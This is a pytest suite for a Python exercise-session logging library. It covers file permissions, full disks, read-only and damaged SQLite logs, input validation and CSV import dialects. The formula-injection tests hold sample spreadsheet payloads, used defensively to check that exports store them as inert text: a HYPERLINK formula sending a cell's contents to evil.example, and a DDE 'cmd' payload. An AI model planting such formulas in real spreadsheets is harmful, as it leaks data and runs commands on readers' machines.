"""Issue 15, the store and input side: every fault and attack ends in one clear message.

Each test attacks through the public API (or the ``backkit`` command) with
real files and real processes, and checks what a person reads (the message
names the file, and the row and field where they apply) and that the log
and every existing output file are byte-for-byte unchanged.

Full disks are real where the machine allows: SQLite's own page limit
(``PRAGMA max_page_count``) for writes to an open log, a tiny tmpfs for
creating a log and exporting (when this process may mount one), and a
file-size limit (``RLIMIT_FSIZE``) in a child process otherwise.
"""

from __future__ import annotations

import contextlib
import csv
import os
import random
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import textwrap
import warnings
import zoneinfo
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import backkit
from backkit import store as store_module
from backkit.errors import (
    CheckInError,
    LogError,
    LogFileError,
    LogFileWarning,
    LogValidationError,
)
from backkit.log import SessionLog
from backkit.logfiles import write_excel

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes and signals")

ROOT = str(Path(backkit.__file__).resolve().parent.parent)
SCRIPT = Path(sys.executable).with_name("backkit")


def env() -> dict[str, str]:
    out = dict(os.environ)
    out["PYTHONPATH"] = os.pathsep.join(p for p in (ROOT, out.get("PYTHONPATH")) if p)
    return out


def run(code: str, *args: str, user: int | None = None, timeout: float = 120):
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code), *args],
        capture_output=True,
        text=True,
        env=env(),
        user=user,
        timeout=timeout,
    )


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def bout(i: int = 0, **extra) -> dict:
    return {
        "exercise_id": "bridge",
        "started_at": f"2025-01-{1 + i % 28:02d}T08:{i % 60:02d}:00+00:00",
        "session_id": f"s{i}",
        **extra,
    }


def files_beside(path: Path) -> list[str]:
    return sorted(p.name for p in path.parent.iterdir())


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def tiny_disk():
    """A real, nearly full file system (tmpfs), or skip where it cannot be mounted."""
    mounts = []

    def make(kib: int) -> Path:
        where = Path(tempfile.mkdtemp())
        done = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", f"size={kib}k,mode=0700", "tmpfs", str(where)],
            capture_output=True,
        )
        if done.returncode:
            pytest.skip("cannot mount a tmpfs here (needs root); RLIMIT tests cover the rest")
        mounts.append(where)
        return where

    yield make
    for where in mounts:
        subprocess.run(["umount", str(where)], check=False)
        shutil.rmtree(where, ignore_errors=True)


# --------------------------------------------------------------------------
# 1. File modes and temporary files


class TestModes:
    def test_log_wal_shm_0600_and_new_folders_0700_under_umask_022(
        self, tmp_path, umask022, monkeypatch
    ):
        # the kit creates missing folders only in the data home (output_folder)
        monkeypatch.setenv("BACKKIT_HOME", str(tmp_path / "home"))
        path = tmp_path / "home" / "data" / "log.sqlite"
        with SessionLog(path) as log:
            log.record(**bout())
            for name in ("log.sqlite", "log.sqlite-wal", "log.sqlite-shm"):
                assert mode(path.parent / name) == 0o600, name
        assert mode(tmp_path / "home") == 0o700
        assert mode(tmp_path / "home" / "data") == 0o700
        assert mode(tmp_path) == stat.S_IMODE(tmp_path.stat().st_mode)  # existing: untouched

    def test_exports_and_plans_are_0600(self, log, tmp_path, umask022, monkeypatch):
        monkeypatch.setenv("BACKKIT_HOME", str(tmp_path))  # so out/ may be created
        log.record(**bout())
        old = tmp_path / "old.csv"
        old.write_text("x")
        os.chmod(old, 0o644)
        assert mode(log.export_csv(old)) == 0o600  # replaced by a private file
        assert mode(log.export_excel(tmp_path / "out" / "log.xlsx")) == 0o600
        assert mode(tmp_path / "out") == 0o700
        plan = backkit.Plan("P", items=["bridge"]).save(tmp_path / "plan.yaml")
        assert mode(plan) == 0o600

    def test_a_log_made_0644_by_an_older_backkit_is_tightened(self, tmp_path, umask022):
        path = tmp_path / "log.sqlite"
        SessionLog(path).close()
        os.chmod(path, 0o644)
        with SessionLog(path) as log:
            log.record(**bout())
            assert mode(path) == 0o600 and mode(Path(f"{path}-wal")) == 0o600


class TestTemporaryFiles:
    WRITER = """
        import sys, time
        from pathlib import Path
        from backkit.store import write_atomically

        def write(tmp):
            tmp.write_text("private notes " * 1000)
            print(oct(tmp.stat().st_mode & 0o777), flush=True)
            time.sleep(60)

        write_atomically(sys.argv[1], write)
        """

    def writer(self, path: Path) -> tuple[subprocess.Popen, str]:
        child = subprocess.Popen(
            [sys.executable, "-c", textwrap.dedent(self.WRITER), str(path)],
            stdout=subprocess.PIPE,
            text=True,
            env=env(),
        )
        return child, child.stdout.readline().strip()

    def temps(self, folder: Path) -> list[str]:
        return sorted(p.name for p in folder.iterdir() if ".tmp" in p.name)

    def test_a_killed_export_leaves_a_0600_temp_file_the_next_write_removes(self, tmp_path):
        out = tmp_path / "log.csv"
        child, shown = self.writer(out)
        child.kill()
        child.wait()
        assert shown == "0o600"
        (left,) = self.temps(tmp_path)
        assert left.startswith(".log.") and left.endswith(".tmp.csv")
        with SessionLog(tmp_path / "other.sqlite") as log:
            log.export_csv(tmp_path / "log.csv")
        assert self.temps(tmp_path) == []

    def test_a_live_writers_temp_file_is_left_alone(self, tmp_path):
        child, _ = self.writer(tmp_path / "a.csv")
        try:
            store_module.write_atomically(tmp_path / "a.csv", lambda tmp: tmp.write_text("x"))
            assert len(self.temps(tmp_path)) == 1  # still being written by the child
        finally:
            child.kill()
            child.wait()
        assert store_module.remove_stale_temp_files(tmp_path)  # now it is stale
        assert self.temps(tmp_path) == []

    def test_a_kill_while_creating_a_log_leaves_no_temp_log_after_the_next_open(self, tmp_path):
        code = """
            import sys, time
            from backkit import store
            real = store._migrate
            def slow(conn, path, steps):
                version = real(conn, path, steps)
                print("creating", flush=True)
                time.sleep(60)
                return version
            store._migrate = slow
            from backkit.log import SessionLog
            SessionLog(sys.argv[1])
            """
        child = subprocess.Popen(
            [sys.executable, "-c", textwrap.dedent(code), str(tmp_path / "log.sqlite")],
            stdout=subprocess.PIPE,
            text=True,
            env=env(),
        )
        assert child.stdout.readline().strip() == "creating"
        os.kill(child.pid, signal.SIGKILL)
        child.wait()
        left = self.temps(tmp_path)
        assert left and all(n.startswith(".log.sqlite.") for n in left), left
        assert not (tmp_path / "log.sqlite").exists()
        with SessionLog(tmp_path / "log.sqlite") as log:
            log.record(**bout())
        assert self.temps(tmp_path) == []


# --------------------------------------------------------------------------
# 2. Faults of the system: a full disk, a read-only file, a lock held by another program


def assert_disk_full(message: str, path: Path) -> None:
    assert str(path) in message and "the disk is full" in message, message
    assert "rollback" not in message and "Traceback" not in message, message


class TestDiskFull:
    def test_record_on_a_full_disk_says_so_and_writes_nothing(self, log, path, digest):
        log.record(**bout(0))
        (pages,) = log.store.query("PRAGMA page_count")[0]
        log.store.query(f"PRAGMA max_page_count = {pages + 2}")
        with pytest.raises(LogFileError) as caught:
            for i in range(1, 100):
                before = digest(path)
                rows = len(log)
                log.record(**bout(i, notes="n" * 1900))
        assert_disk_full(str(caught.value), path)
        assert digest(path) == before and len(log) == rows

    def test_creating_a_log_on_a_full_disk(self, tiny_disk):
        disk = tiny_disk(64)
        (disk / "filler").write_bytes(b"x" * (60 * 1024))
        with pytest.raises(LogFileError) as caught:
            SessionLog(disk / "log.sqlite")
        assert_disk_full(str(caught.value), disk / "log.sqlite")
        assert sorted(p.name for p in disk.iterdir()) == ["filler"]

    @pytest.mark.parametrize("kind", ["csv", "xlsx"])
    def test_export_on_a_full_disk_keeps_the_old_file(self, tiny_disk, tmp_path, kind):
        with SessionLog(tmp_path / "log.sqlite") as log:
            # random text: the zip inside an .xlsx cannot shrink it below the disk's size
            log.record_many([bout(i, notes=os.urandom(700).hex()) for i in range(200)])
            disk = tiny_disk(48)
            out = disk / f"log.{kind}"
            out.write_bytes(b"the old export")
            with pytest.raises(OSError) as caught:
                getattr(log, "export_csv" if kind == "csv" else "export_excel")(out)
        assert_disk_full(f"{caught.value.filename}: {caught.value.strerror}", out)
        assert out.read_bytes() == b"the old export"
        assert sorted(p.name for p in disk.iterdir()) == [out.name]

    @pytest.mark.parametrize("kind", ["csv", "excel"])
    def test_export_over_a_file_size_limit_in_a_child_process(self, tmp_path, kind):
        with SessionLog(tmp_path / "log.sqlite") as log:
            log.record_many([bout(i, notes="n" * 1500) for i in range(200)])
        out = tmp_path / f"out.{'csv' if kind == 'csv' else 'xlsx'}"
        out.write_bytes(b"the old export")
        code = f"""
            import resource, signal, sys
            from backkit.log import SessionLog
            log = SessionLog(sys.argv[1], create=False)
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # then writes fail with EFBIG
            resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))
            try:
                log.export_{kind}(sys.argv[2])
            except OSError as err:
                print(err.filename, err.strerror, sep=": ")
            """
        done = run(code, str(tmp_path / "log.sqlite"), str(out))
        assert done.stdout.startswith(f"{out}: writing ") and "failed" in done.stdout
        assert done.stderr == ""  # no "Exception ignored in ZipFile.__del__"
        assert out.read_bytes() == b"the old export"
        assert not [p for p in tmp_path.iterdir() if ".tmp" in p.name]


NOBODY = 65534 if os.geteuid() == 0 else None


def nobody_can_run_python() -> bool:
    """Whether the unprivileged user can start this interpreter.

    A venv made from an interpreter under /root (pyenv's, as the dependency
    matrix uses) is out of that user's reach; the test then cannot play them.
    """
    if NOBODY is None:
        return True
    try:
        done = subprocess.run(
            [sys.executable, "-c", "import backkit"],
            env=env(),
            user=NOBODY,
            capture_output=True,
            timeout=60,
        )
    except PermissionError:
        return False
    return done.returncode == 0


@pytest.fixture
def shared_folder():
    """A folder the unprivileged user can reach (tmp_path is private to root)."""
    if not nobody_can_run_python():
        pytest.skip(f"the unprivileged user (uid {NOBODY}) cannot run {sys.executable}")
    where = Path(tempfile.mkdtemp(dir="/tmp"))
    os.chmod(where, 0o755)
    yield where
    for p in where.rglob("*"):
        with contextlib.suppress(OSError):
            os.chmod(p, 0o700)
    shutil.rmtree(where, ignore_errors=True)


READER = """
    import sys, warnings
    warnings.simplefilter("error")
    from backkit.log import SessionLog
    from backkit.errors import BackkitError
    log = SessionLog(sys.argv[1], create=False)
    print(len(log.frame()), log.store.read_only)
    try:
        log.record(exercise_id="bridge", started_at="2025-02-01T08:00Z")
    except BackkitError as err:
        print(err)
    """


class TestReadOnly:
    def make(self, folder: Path, *, file_mode: int, folder_mode: int) -> Path:
        data = folder / "data"
        data.mkdir()
        path = data / "log.sqlite"
        with SessionLog(path) as log:
            log.record_many([bout(i) for i in range(3)])
        if NOBODY is not None:
            for p in (data, path):
                os.chown(p, NOBODY, NOBODY)
        os.chmod(path, file_mode)
        os.chmod(data, folder_mode)
        return path

    @pytest.mark.parametrize(("file_mode", "folder_mode"), [(0o400, 0o700), (0o600, 0o500)])
    def test_readable_not_writable_and_nothing_beside(self, shared_folder, file_mode, folder_mode):
        path = self.make(shared_folder, file_mode=file_mode, folder_mode=folder_mode)
        before = path.read_bytes()
        done = run(READER, str(path), user=NOBODY)
        lines = done.stdout.splitlines()
        assert done.returncode == 0, done.stderr
        assert lines[0] == "3 True"
        assert lines[1].startswith(f"{path}: is read-only: nothing can be written.")
        assert "damaged" not in done.stdout
        assert files_beside(path) == ["log.sqlite"]  # no -wal, no -shm
        assert path.read_bytes() == before

    def test_cli_import_into_a_read_only_log_is_one_line(self, shared_folder):
        path = self.make(shared_folder, file_mode=0o400, folder_mode=0o700)
        source = shared_folder / "in.csv"
        source.write_text("exercise_id,started_at\nbridge,2025-02-01T08:00Z\n")
        os.chmod(source, 0o644)
        done = subprocess.run(
            [str(SCRIPT), "import", str(source), "--log", str(path)],
            capture_output=True,
            text=True,
            env=dict(env(), BACKKIT_HOME=str(shared_folder)),
            user=NOBODY,
        )
        assert done.returncode == 1
        assert done.stderr.count("\n") == 1 and "is read-only" in done.stderr, done.stderr
        assert "Traceback" not in done.stderr
        assert files_beside(path) == ["log.sqlite"]


class TestLockedOnOpen:
    def test_a_lock_held_longer_than_the_timeout_is_named(self, path, monkeypatch):
        SessionLog(path).close()
        with SessionLog(path) as log:
            log.record(**bout(0))
        holder = subprocess.Popen(
            [
                sys.executable,
                "-c",
                "import sqlite3, sys, time\n"
                "c = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
                "c.execute('BEGIN IMMEDIATE'); print('locked', flush=True); time.sleep(30)",
                str(path),
            ],
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            assert holder.stdout.readline().strip() == "locked"
            monkeypatch.setattr(store_module, "BUSY_SECONDS", 0.3)
            # reading needs no write lock: the log opens and reads at once
            with SessionLog(path) as log:
                assert len(log.frame()) == 1
                with pytest.raises(LogFileError) as caught:
                    log.record(**bout(1))
        finally:
            holder.kill()
            holder.wait()
        message = str(caught.value)
        assert message.startswith(f"{path}: writing to the log waited 0.3 s")
        assert "another program's write lock" in message


# --------------------------------------------------------------------------
# A log not closed cleanly whose -wal is gone or damaged; refused files


CRASHER = """
    import os, sys
    from backkit.log import SessionLog
    log = SessionLog(sys.argv[1])
    for i in range(int(sys.argv[2])):
        log.record(exercise_id="bridge", session_id=f"c{i}",
                   started_at=f"2025-03-01T08:{i % 60:02d}:{i // 60:02d}Z")
    os.kill(os.getpid(), 9)
    """


class TestUncleanClose:
    def crash(self, path: Path, rows: int = 50) -> None:
        done = run(CRASHER, str(path), str(rows))
        assert done.returncode == -signal.SIGKILL
        assert Path(f"{path}-wal").stat().st_size > 0

    def test_a_crash_with_its_wal_intact_loses_nothing_and_warns_nothing(self, path):
        self.crash(path)
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            with SessionLog(path) as log:
                assert len(log) == 50 and log.store.warnings == []

    def test_wal_deleted_after_a_crash_is_detected(self, path):
        self.crash(path)
        for side in ("-wal", "-shm"):
            Path(f"{path}{side}").unlink()
        with pytest.warns(LogFileWarning, match="was not closed cleanly.*-wal file.*is missing"):
            log = SessionLog(path)
        assert "may be lost" in log.store.warnings[0]
        assert len(log) < 50  # the rows the warning is about are indeed gone
        log.close()

    def test_wal_with_a_damaged_header_is_detected_and_kept(self, path):
        self.crash(path)
        wal = Path(f"{path}-wal")
        data = bytearray(wal.read_bytes())
        data[12] ^= 0xFF  # the checkpoint sequence: the header checksum fails
        wal.write_bytes(bytes(data))
        with pytest.warns(LogFileWarning, match="is damaged and SQLite ignores it"):
            SessionLog(path).close()
        (copy,) = path.parent.glob("log.sqlite-wal.damaged-*")
        assert copy.read_bytes() == bytes(data) and mode(copy) == 0o600

    def test_wal_damaged_part_way_is_detected(self, path):
        self.crash(path)
        wal = Path(f"{path}-wal")
        data = bytearray(wal.read_bytes())
        data[32 + 24 + 100] ^= 0xFF  # inside the first frame's page
        wal.write_bytes(bytes(data))
        with pytest.warns(LogFileWarning, match="damaged part-way: .* committed write"):
            SessionLog(path).close()

    def test_a_clean_close_warns_nothing(self, path):
        with SessionLog(path) as log:
            log.record(**bout())
        assert not Path(f"{path}-wal").exists()
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            SessionLog(path).close()


LIVE_WRITER = """
    import os, sys
    from backkit.log import SessionLog
    log = SessionLog(sys.argv[1])
    for i in range(int(sys.argv[2])):
        log.record(exercise_id="bridge", session_id=f"w{i}",
                   started_at=f"2025-03-01T09:{i % 60:02d}:{i // 60:02d}Z")
    print("written", flush=True)
    sys.stdin.readline()
    os.kill(os.getpid(), 9)
    """


def stored_mark(path: Path) -> str:
    """The closed_cleanly mark in the main file itself (the -wal left out)."""
    raw = sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True)
    try:
        return raw.execute("SELECT value FROM meta WHERE key = 'closed_cleanly'").fetchone()[0]
    finally:
        raw.close()


def side_bytes(path: Path) -> dict[str, bytes]:
    """The log and its -wal, byte for byte (the -shm is shared memory, not data)."""
    return {p.name: p.read_bytes() for p in (path, Path(f"{path}-wal")) if p.exists()}


class TestReadersAndWriters:
    """Reading never writes, and never clears or sets the mark of a writer (issue 23)."""

    def live_writer(self, path: Path, rows: int = 20) -> subprocess.Popen:
        proc = subprocess.Popen(
            [sys.executable, "-c", textwrap.dedent(LIVE_WRITER), str(path), str(rows)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            env=env(),
        )
        assert proc.stdout.readline().strip() == "written"
        return proc

    def kill(self, proc: subprocess.Popen) -> None:
        proc.communicate("go\n", timeout=60)
        assert proc.returncode == -signal.SIGKILL

    def test_reading_a_crashed_log_leaves_its_wal_for_the_next_writer(self, path):
        TestUncleanClose().crash(path)
        before = side_bytes(path)
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            for _ in range(2):
                with SessionLog(path) as log:
                    assert len(log.frame()) == 50
        assert side_bytes(path) == before  # the -wal not checkpointed by a reader
        assert stored_mark(path) == "no"
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            with SessionLog(path) as log:
                log.record(**bout(99))
        assert stored_mark(path) == "yes" and files_beside(path) == ["log.sqlite"]

    def test_a_reader_neither_clears_nor_sets_a_live_writers_mark(self, path):
        proc = self.live_writer(path)
        try:
            assert stored_mark(path) == "no"
            before = side_bytes(path)
            with SessionLog(path) as log:
                assert len(log) == 20
            assert side_bytes(path) == before and stored_mark(path) == "no"
        finally:
            self.kill(proc)
        for side in ("-wal", "-shm"):  # the writer's last writes lost after its crash
            Path(f"{path}{side}").unlink()
        with pytest.warns(LogFileWarning, match="was not closed cleanly"):
            SessionLog(path).close()

    def test_a_writer_that_dies_while_a_reader_has_the_log_open_loses_nothing(self, path):
        SessionLog(path).close()
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            with SessionLog(path) as reader:
                assert len(reader) == 0
                self.kill(self.live_writer(path))
                assert len(reader) == 20
            # the reader closed last, but left the dead writer's -wal to a writer
            assert Path(f"{path}-wal").stat().st_size > 0
            with SessionLog(path) as log:
                assert len(log) == 20 and log.store.warnings == []
                log.record(**bout(1))
        assert stored_mark(path) == "yes" and files_beside(path) == ["log.sqlite"]

    def test_a_full_disk_still_reads(self, tiny_disk):
        disk = tiny_disk(512)
        path = disk / "log.sqlite"
        with SessionLog(path) as log:
            log.record_many([bout(i) for i in range(20)])
        filler = disk / "filler"
        fd = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            with contextlib.suppress(OSError):
                while True:  # until the disk is full
                    os.write(fd, b"x" * 4096)
        finally:
            os.close(fd)
        before = {p.name: p.read_bytes() for p in disk.iterdir() if p != filler}
        with SessionLog(path) as log:
            assert len(log.frame()) == 20
            assert log.check() == ["ok"]
            with pytest.raises(LogFileError) as caught:
                log.record(**bout(30))
        assert_disk_full(str(caught.value), path)
        assert {p.name: p.read_bytes() for p in disk.iterdir() if p != filler} == before


class TestRefusedFilesLeaveNothing:
    @pytest.mark.parametrize(
        "damage",
        ["not a database", "foreign", "bad page"],
    )
    def test_nothing_beside_a_refused_file(self, tmp_path, damage):
        path = tmp_path / "log.sqlite"
        if damage == "not a database":
            path.write_bytes(b"x" * 5000)
        elif damage == "foreign":
            conn = sqlite3.connect(path)
            conn.execute("PRAGMA journal_mode = WAL")
            conn.execute("CREATE TABLE other (x)")
            conn.close()
        else:
            with SessionLog(path) as log:
                log.record_many([bout(i, notes="n" * 500) for i in range(40)])
            data = bytearray(path.read_bytes())
            data[4096 * 2 + 10 : 4096 * 2 + 200] = bytes(190)
            path.write_bytes(bytes(data))
        before = path.read_bytes()
        with pytest.raises(LogFileError):
            SessionLog(path)
        assert files_beside(path) == ["log.sqlite"]
        assert path.read_bytes() == before


# --------------------------------------------------------------------------
# 3. Damage that passes quick_check


class TestDamagedCells:
    @pytest.fixture
    def damaged(self, path):
        with SessionLog(path) as log:
            log.record_many([bout(i) for i in range(5)])
        conn = sqlite3.connect(path)
        conn.execute("UPDATE bouts SET session_id = CAST(X'FFFE41' AS TEXT) WHERE row_id = 2")
        conn.execute("UPDATE bouts SET sets_done = 'three' WHERE row_id = 4")
        conn.commit()
        assert conn.execute("PRAGMA quick_check").fetchone() == ("ok",)
        conn.close()
        return path

    def test_bad_cells_are_named_and_the_other_rows_export(self, damaged, tmp_path):
        with pytest.warns(LogFileWarning) as caught, SessionLog(damaged) as log:
            frame = log.frame()
            out = log.export_csv(tmp_path / "out.csv")
        message = str(caught[0].message)
        assert str(damaged) in message
        assert "2 row(s) have damaged cells and were left out" in message
        assert "table bouts, row 2, column session_id: is not UTF-8 text" in message
        assert "table bouts, row 4, column sets_done: 'three' is not a whole number" in message
        assert list(frame["session_id"]) == ["s0", "s2", "s4"]
        assert len(pd.read_csv(out)) == 3
        conn = sqlite3.connect(damaged)  # the damaged cells are still there, for recovery
        assert conn.execute("SELECT sets_done FROM bouts WHERE row_id = 4").fetchone() == ("three",)
        conn.close()

    def test_forty_files_with_flipped_bytes(self, tmp_path):
        """The issue's experiment: 40 logs with random bytes flipped; no raw error on any."""
        original = tmp_path / "original.sqlite"
        with SessionLog(original) as log:
            log.record_many([bout(i, notes=f"note {i}", pain_after=i % 11) for i in range(300)])
        reference = SessionLog(original).frame()
        rng = random.Random(15)
        tally = dict.fromkeys(
            ["refused at open", "refused at read", "rows left out", "same", "changed silently"], 0
        )
        raw, unchanged = [], 0
        for n in range(40):
            path = tmp_path / f"flipped{n}.sqlite"
            data = bytearray(original.read_bytes())
            for _ in range(8):
                where = rng.randrange(100, len(data))
                data[where] ^= 1 << rng.randrange(8)
            path.write_bytes(bytes(data))
            phase = "refused at open"
            try:
                with warnings.catch_warnings(record=True) as seen:
                    warnings.simplefilter("always")
                    with SessionLog(path) as log:
                        phase = "refused at read"
                        frame = log.frame()
                        log.export_csv(tmp_path / f"flipped{n}.csv")
            except LogError as err:  # LogFileError: one message naming the file
                assert str(err).startswith(str(path)), err
                tally[phase] += 1
                unchanged += path.read_bytes() == bytes(data)
                continue
            except Exception as err:  # a raw error: what the issue found
                raw.append(f"{type(err).__name__}: {err}")
                continue
            if any(issubclass(w.category, LogFileWarning) for w in seen):
                tally["rows left out"] += 1
            elif frame.equals(reference):
                tally["same"] += 1
            else:
                tally["changed silently"] += 1  # a flipped digit that is still a valid value
        print("40 flipped files:", tally, "raw errors:", raw, "refused and unchanged:", unchanged)
        assert raw == []
        assert sum(tally.values()) == 40
        # a file refused at open is never written; one that opened got its open/closed mark
        assert unchanged >= tally["refused at open"]


# --------------------------------------------------------------------------
# 4. Bad input


class TestBadInput:
    @pytest.mark.parametrize(
        ("fields", "message"),
        [
            ({"notes": "a\ud800b"}, "notes = 'a\\ud800b': holds a lone surrogate"),
            ({"notes": "a\x00b"}, "notes = 'a\\x00b': holds the control character U+0000"),
            ({"notes": "ring\x07"}, "holds the control character U+0007 at position 5"),
            (
                {"pain_after": "3"},
                "pain_after = '3': must be a whole number from 0 to 10, not text",
            ),
            ({"pain_after": "1_0"}, "pain_after = '1_0': must be a whole number from 0 to 10"),
            ({"started_at": pd.NaT}, "started_at = NaT: is empty; a record needs the time"),
            ({"started_at": float("nan")}, "started_at = nan: is empty"),
            ({"exercise_id": float("nan")}, "exercise_id = nan: is required"),
        ],
    )
    def test_record_refuses(self, log, path, digest, fields, message):
        log.record(**bout(0))
        before = digest(path)
        with pytest.raises(LogValidationError) as caught:
            log.record(**{**bout(1), **fields})
        assert message in str(caught.value)
        assert digest(path) == before

    def test_a_time_in_the_dst_gap_names_the_gap(self, log, monkeypatch):
        monkeypatch.setenv("BACKKIT_TZ", "Europe/Lisbon")
        with pytest.raises(LogValidationError) as caught:
            log.record(exercise_id="bridge", started_at="2025-03-30T01:30")
        assert (
            "started_at = '2025-03-30T01:30': did not happen in Europe/Lisbon: the clocks went "
            "forward an hour there, from 2025-03-30 01:00 to 02:00" in str(caught.value)
        )
        log.record(exercise_id="bridge", started_at="2025-03-30T02:30")  # after the gap: fine
        assert len(log) == 1

    def test_nan_for_a_number_is_refused_not_stored_as_unknown(self, log):
        # from Python code NaN is a computation gone wrong; "not given" is None
        with pytest.raises(LogValidationError, match=r"pain_after = nan: .*NaN is not"):
            log.record(**bout(0, pain_after=float("nan")))
        assert len(log) == 0
        assert log.record(**bout(0, pain_after=None))["pain_after"] is None

    def test_record_many_none(self, log):
        with pytest.raises(LogValidationError, match="rows = None: must be a list of bouts"):
            log.record_many(None)
        with pytest.raises(LogValidationError, match=r"rows\[1\]: row = 3: must be a mapping"):
            log.record_many([{"exercise_id": "bridge"}, 3])
        assert len(log) == 0

    def test_checkin_date_with_trailing_garbage(self, log):
        with pytest.raises(CheckInError, match="'2025-01-20 trailing garbage': is not a date"):
            backkit.record_checkin(log, "2025-01-20 trailing garbage", pain_average=3)
        assert backkit.outcomes_frame(log).empty


class TestCsvInput:
    def test_a_csv_without_started_at_is_refused(self, log, tmp_path):
        source = tmp_path / "old.csv"
        source.write_text("exercise_id,pain_after\nbridge,2\nbridge,3\n")
        with pytest.raises(LogValidationError) as caught:
            log.import_csv(source)
        assert (
            "file old.csv, row 1 (header): column = 'started_at': is required: each bout needs "
            "the time it started" in str(caught.value)
        )
        assert len(log) == 0

    def test_an_empty_started_at_cell_is_refused(self, log, tmp_path):
        source = tmp_path / "old.csv"
        source.write_text("exercise_id,started_at\nbridge,\n")
        with pytest.raises(LogValidationError, match="row 2: started_at = '': is empty"):
            log.import_csv(source)

    def test_numbers_in_csv_are_text_read_strictly(self, log, tmp_path):
        source = tmp_path / "in.csv"
        source.write_text("exercise_id,started_at,pain_after\nbridge,2025-01-02T08:00Z,1_0\n")
        with pytest.raises(LogValidationError, match="row 2: pain_after = '1_0'"):
            log.import_csv(source)
        source.write_text("exercise_id,started_at,pain_after\nbridge,2025-01-02T08:00Z,3\n")
        assert log.import_csv(source) == 1 and log.frame()["pain_after"].tolist() == [3]

    def test_a_nul_byte_in_csv_notes(self, log, tmp_path):
        source = tmp_path / "in.csv"
        source.write_bytes(b"exercise_id,started_at,notes\nbridge,2025-01-02T08:00Z,a\x00b\n")
        with pytest.raises(LogValidationError, match=r"row 2: notes = .*U\+0000"):
            log.import_csv(source)


# --------------------------------------------------------------------------
# 5. Formula injection (OWASP "CSV injection")

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)"]


class TestFormulaInjection:
    @pytest.fixture
    def risky(self, log):
        texts = [*FORMULAS, "'=already quoted", "\t=tab", "plain"]
        log.record_many([bout(i, notes=t) for i, t in enumerate(texts)])
        log.record(**bout(20, session_id="=cmd|' /C calc'!A0"))
        return log

    def test_csv_cells_are_quoted_and_read_back_exactly(self, risky, tmp_path):
        out = risky.export_csv(tmp_path / "log.csv")
        with open(out, newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert [c for c in cells if c.startswith("'")][:4] == [f"'{t}" for t in FORMULAS]
        with SessionLog(tmp_path / "copy.sqlite") as copy:
            copy.import_csv(out)
            assert copy.frame().drop(columns="source").equals(risky.frame().drop(columns="source"))

    def test_excel_cells_are_text_never_formulas(self, risky, tmp_path):
        out = risky.export_excel(tmp_path / "log.xlsx")
        sheet = openpyxl.load_workbook(out)["log"]
        values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
        for text in FORMULAS:
            assert values[text] == "s", text
        assert values["=cmd|' /C calc'!A0"] == "s"
        assert "f" not in values.values()

    def test_control_characters_are_shown_in_excel_not_a_traceback(self, tmp_path):
        frame = backkit.log.empty_frame(tz="UTC")
        frame.loc[0, "notes"] = "bell\x07 here"
        out = tmp_path / "log.xlsx"
        out.write_bytes(b"old")
        write_excel(frame, out, meanings={}, tz=zoneinfo.ZoneInfo("UTC"))
        sheet = openpyxl.load_workbook(out)["log"]
        notes = [c.value for c in sheet["P"]]
        assert notes == ["notes", "bell\u2407 here"]


# --------------------------------------------------------------------------
# 6. Semicolons and decimal commas


class TestDialect:
    def test_semicolons_with_decimal_commas_import(self, log, tmp_path):
        source = tmp_path / "pt.csv"
        source.write_text(
            "exercise_id;started_at;hold_s_done;pain_after;notes\n"
            "bridge;2025-01-20T08:00Z;3,5;2;dor ligeira, melhor\n",
            encoding="utf-8",
        )
        assert log.import_csv(source) == 1
        row = log.frame().iloc[0]
        assert row["hold_s_done"] == 3.5 and row["notes"] == "dor ligeira, melhor"

    def test_a_decimal_point_in_a_semicolon_file_is_refused(self, log, tmp_path):
        source = tmp_path / "pt.csv"
        source.write_text("exercise_id;started_at;hold_s_done\nbridge;2025-01-20T08:00Z;3.5\n")
        with pytest.raises(LogValidationError, match="with a decimal comma"):
            log.import_csv(source)

    def test_a_normal_file_still_imports(self, log, tmp_path):
        source = tmp_path / "en.csv"
        source.write_text("exercise_id,started_at,hold_s_done\nbridge,2025-01-20T08:00Z,3.5\n")
        assert log.import_csv(source) == 1 and log.frame()["hold_s_done"].tolist() == [3.5]

    def test_another_delimiter_is_named(self, log, tmp_path):
        source = tmp_path / "tabs.csv"
        source.write_text("exercise_id\tstarted_at\nbridge\t2025-01-20T08:00Z\n")
        with pytest.raises(LogValidationError, match="the cells are separated by '\\\\t'"):
            log.import_csv(source)
